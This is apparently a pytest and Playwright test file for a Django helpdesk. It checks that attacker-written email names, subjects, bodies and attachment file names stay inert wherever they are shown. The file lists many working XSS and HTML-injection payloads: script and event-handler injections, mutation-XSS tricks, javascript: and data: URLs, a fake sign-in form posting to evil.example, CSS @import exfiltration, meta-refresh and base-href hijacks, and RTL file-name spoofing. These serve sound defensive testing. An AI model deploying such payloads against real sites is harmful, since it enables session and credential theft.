"""What strangers write, in a real browser: it runs nothing, loads nothing, and moves nothing on the page.

The `page` fixture fails on a console error: a breach of the content security policy is one, so nothing even tries.
"""

from collections.abc import Callable, Iterator
from email.message import EmailMessage
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect
from pytest_django.live_server_helper import LiveServer

from contacts.models import Contact
from gopimi.lib.tenancy import workspace
from gopimi.workspaces.actor import Actor
from gopimi.workspaces.models import ApiToken, User, Workspace
from organizations.models import Organization
from tests.customfields.test_definitions import define
from tickets import mailboxes
from tickets.inbound import receive
from tickets.models import Conversation, Message, RawMail, Ticket

SUPPORT, HELLO = "support@acme.example", "hello@acme.example"
RUN = "window.pwned=1;alert(1)"
SHORT = [  # for subjects and names
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"'\"><svg onload={RUN}>",
    f"</title></textarea><script>{RUN}</script>",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "\u202egnp.exe<b>bold\u2066",
]
BODIES = [
    f"<script>{RUN}</script><script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}><img src=https://evil.example/p.png><img srcset='https://evil.example/p.png 1x'>",
    f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg><svg><desc><img src=x onerror={RUN}></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></table></math>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math><form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript><template><script>{RUN}</script></template>",
    "<style>@import 'https://evil.example/x.css'; body{display:none} *{background:url(https://evil.example/y)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>"
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><a href=relative>relative</a><a href=//evil.example>scheme</a>",
    f"<a href='javascript:{RUN}'>js</a><a href='jav&#x09;ascript:{RUN}'>tab</a>"
    f"<a href='\x01javascript:{RUN}'>control</a>"
    f"<a href='data:text/html,<script>{RUN}</script>'>data</a><a href='vbscript:x'>vb</a>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src='javascript:{RUN}'></iframe>"
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=password autofocus><button>Sign in</button></form>",
    f"<div style='position:fixed;inset:0;z-index:2147483647;background:red' onclick={RUN}>over everything</div>",
    "<div style='width:expression(alert(1));background:url(javascript:alert(1))'>expression</div>",
    "<table width=5000 background=https://evil.example/z><tr><td width=5000 nowrap>wide</td></tr></table>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><input onfocus={RUN} autofocus>",
    f"<video poster=https://evil.example/v><source onerror={RUN}></video><audio src=https://evil.example/a autoplay>",
    "<p id=composer class='modal dialog' hx-get=/accounts/logout/ hx-trigger=load data-open popover>htmx</p>",
    f"<dialog open>dialog</dialog><button formaction='javascript:{RUN}'>x</button><ui-select data-url=/x></ui-select>",
    "</div></article></section></main></body></html><h1>outside</h1>",
    "<xmp><p>xmp</xmp><!--><img src=x onerror=alert(1)>-->",
    "x" * 3000,
    f"<a href='https://ok.example' title='<blockquote><img src=x onerror={RUN}></blockquote>'>title</a>"
    f"<blockquote dir='\"><img src=x onerror={RUN}>'>quote</blockquote>",
    f"<style><style/><img src=x onerror={RUN}></style><xss onfocus={RUN} tabindex=1 autofocus>custom</xss>",
    f"＜script＞{RUN}＜/script＞ \u202e>tpircs< \u2028<scr\x00ipt>{RUN}</scr\x00ipt>",
]
FILES = [
    ("page.html", "text", "html", f"<script>{RUN}</script>"),
    ("picture.svg", "image", "svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"),
    (f"<img src=x onerror={RUN}>.txt", "text", "plain", "x"),
    ("\u202etxt.exe\"'><script>alert(1)</script>", "text", "plain", "x"),
]


def mail(number: int, to: str, name: str, subject: str, html: str) -> bytes:
    message = EmailMessage()
    message["From"] = f'"{name.replace(chr(34), chr(92) + chr(34))}" <eve{number}@evil.example>'
    message["To"], message["Cc"], message["Subject"] = to, "Mallory <mallory@evil.example>", subject
    message["Message-ID"] = f"<{number}@evil.example>"
    message.set_content("text")
    message.add_alternative(f"<html><body>{html}</body></html>", subtype="html")
    for filename, main, sub, content in FILES:
        message.add_attachment(content.encode(), maintype=main, subtype=sub, filename=filename)
    return message.as_bytes()


@pytest.fixture
def hostile(acme: Workspace, bob: User) -> Workspace:
    """A workspace that strangers have written to, with what they wrote in every place that is shown."""
    mailboxes.create(acme, SUPPORT, "ticket", name=SHORT[0])
    mailboxes.create(acme, HELLO, "inbox")
    for number, text in enumerate(SHORT):
        html = "<hr>".join(BODIES[number :: len(SHORT)])
        assert receive(mail(number, SUPPORT, text, text, html), SUPPORT).result == "ticket_created"
        assert receive(mail(number, HELLO, text, text, html), HELLO).result == "conversation_created"
        nobody = mail(number, HELLO, text, text, html).replace(b"@evil.example", b"")
        assert receive(nobody, HELLO).result == "held"
    with workspace(acme):
        field = define(acme, SHORT[1], "text", featured=True)
        people = Contact.objects.for_workspace(acme)
        for contact, text in zip(people.order_by("pk"), SHORT, strict=True):
            organization = Organization.objects.for_workspace(acme).create(name=text)
            contact.change(Actor.agent(bob), {"organization": organization}, {field: text}, tags=[text[:40]])
        ticket = Ticket.objects.for_workspace(acme).first()
        assert ticket
        ticket.change(Actor.agent(bob), subject=SHORT[2], tags=[SHORT[1]])
    return acme


@pytest.fixture
def watched(page: Page, live_server: LiveServer) -> Iterator[Page]:
    """The page; no dialog opened in it, and it asked no other host for anything."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    host = urlsplit(live_server.url).netloc

    def note(request: Any) -> None:
        url = urlsplit(request.url)
        if url.scheme not in ("data", "blob", "about") and url.netloc != host:
            seen.append(request.url)

    page.on("request", note)
    yield page
    assert seen == []


def is_inert(page: Page) -> None:
    """The frame of the page is where it belongs, and nothing of what was written became more than text."""
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{page.url} scrolls sideways"
    found = page.evaluate(
        """[...document.querySelectorAll("*")].flatMap(element => [...element.attributes]
            .filter(one => one.name.startsWith("on") || /^\\s*(javascript|vbscript|data):/i.test(one.value)
                || one.value.includes("evil.example/"))
            .map(one => `${element.tagName} ${one.name}=${one.value}`))"""
    )
    assert [one for one in found if "value=" not in one] == []
    strange = "iframe, object, embed, base, meta[http-equiv], .html :is(script, style, form, input, svg, math, video)"
    expect(page.locator(strange)).to_have_count(0)
    assert page.evaluate("document.querySelector('main').contains(document.querySelector('h1'))")


def addresses(acme: Workspace) -> list[str]:
    with workspace(acme):
        tickets = [acme.url("tickets:detail", one.number) for one in Ticket.objects.for_workspace(acme)]
        talks = [acme.url("tickets:conversation", one.pk) for one in Conversation.objects.for_workspace(acme)]
        people = [acme.url("contacts:detail", one.pk) for one in Contact.objects.for_workspace(acme)]
        held = [
            acme.url("settings:held_mail", one.pk) for one in RawMail.objects.for_workspace(acme).filter(state="held")
        ]
        mails = [
            acme.url(name, one.pk)
            for one in Message.objects.for_workspace(acme).filter(raw_mail__isnull=False)[:2]
            for name in ("tickets:why", "tickets:original")
        ]
    lists = [
        "tickets:list",
        "tickets:inbox",
        "contacts:list",
        "organizations:list",
        "settings:workspace",
        "settings:held",
    ]
    return [*(acme.url(name) for name in lists), *tickets, *talks, *people, *held, *mails]


def test_it_is_inert_wherever_it_is_shown(
    watched: Page, hostile: Workspace, bob: User, sign_in: Callable[[User], None]
) -> None:
    sign_in(bob)
    for size in ({"width": 1440, "height": 900}, {"width": 390, "height": 844}):
        watched.set_viewport_size(size)  # type: ignore[arg-type]
        for address in addresses(hostile):
            watched.goto(address)
            watched.wait_for_load_state("networkidle")
            is_inert(watched)


def test_files_are_saved_and_never_opened(
    watched: Page, hostile: Workspace, bob: User, sign_in: Callable[[User], None]
) -> None:
    sign_in(bob)
    watched.goto(hostile.url("tickets:detail", 1))
    links = watched.locator("a.file")
    expect(links).to_have_count(len(FILES))
    for number, (*_, content) in enumerate(FILES):
        with watched.expect_download() as started:
            links.nth(number).click()
        assert started.value.path().read_text() == content
        assert not {"\u202e", "<", '"', "/"} & set(started.value.suggested_filename)
    is_inert(watched)


def test_the_apis_answers_are_no_pages(watched: Page, hostile: Workspace) -> None:
    _, key = ApiToken.issue(hostile, "Test", ["tickets:read"])
    watched.route("**/favicon.ico", lambda route: route.fulfill(status=204))  # asked for by Chromium, of JSON too
    watched.set_extra_http_headers({"Authorization": f"Bearer {key}"})
    for path in ("tickets", "tickets/1/messages", "conversations"):
        answer = watched.goto(f"/api/v1/{path}")
        assert answer
        assert (answer.status, answer.headers["content-type"]) == (200, "application/json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert watched.evaluate("[window.pwned, document.scripts.length, document.images.length]") == [None, 0, 0]


def test_a_toast_and_a_dialog_with_a_name(
    watched: Page, hostile: Workspace, bob: User, sign_in: Callable[[User], None]
) -> None:
    sign_in(bob)
    with workspace(hostile):
        contact = Contact.objects.for_workspace(hostile).order_by("pk")[1]
    watched.goto(hostile.url("contacts:detail", contact.pk))
    watched.get_by_role("button", name="More actions").click()
    watched.get_by_role("button", name="Delete").click()
    is_inert(watched)
    watched.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(watched.get_by_role("status").filter(has_text="Undo").first).to_be_visible()
    is_inert(watched)
